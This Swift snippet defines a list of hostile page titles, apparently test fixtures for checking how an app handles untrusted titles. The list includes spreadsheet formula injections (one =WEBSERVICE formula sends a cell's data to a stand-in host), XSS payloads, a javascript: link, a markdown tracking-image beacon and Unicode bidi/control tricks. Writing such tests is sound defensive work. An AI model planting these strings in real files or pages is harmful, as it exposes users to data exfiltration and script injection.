/// Titles as an ill-meaning or broken page may carry them: formulas, markup, separators, controls, tricks of Unicode.
enum HostileTitles {
  static let all: [String] = [
    "=1+1", "=HYPERLINK(\"http://x.invalid\";\"Read on\")", "=WEBSERVICE(\"http://x.invalid/\"&A1)",
    "+7 495 000 00 00", "-2+3", "- Envoy arrives", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠x", "＋1",
    "－1",
    "'=1+1", "''", "'", "say \"yes\", or no", "a;b|c,d", "line one\nline two\r\nline three\rend",
    "nul\u{0}bell\u{7}esc\u{1B}[31m",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![beacon](http://x.invalid/p.png)",
    "[read](javascript:alert(1))", "| a | b |\n|---|---|", "# heading\n\n1. one", "**bold** _em_ `code` ~~gone~~ $x^2$",
    "&amp; &lt;b&gt; &#60;", "http://x.invalid/ www.x.invalid", "right\u{202E}left\u{2066}in\u{2069} \u{200F}",
    "next\u{85}line\u{2028}separator\u{2029}end", "    four spaces \\| and a backslash\\",
  ]
}
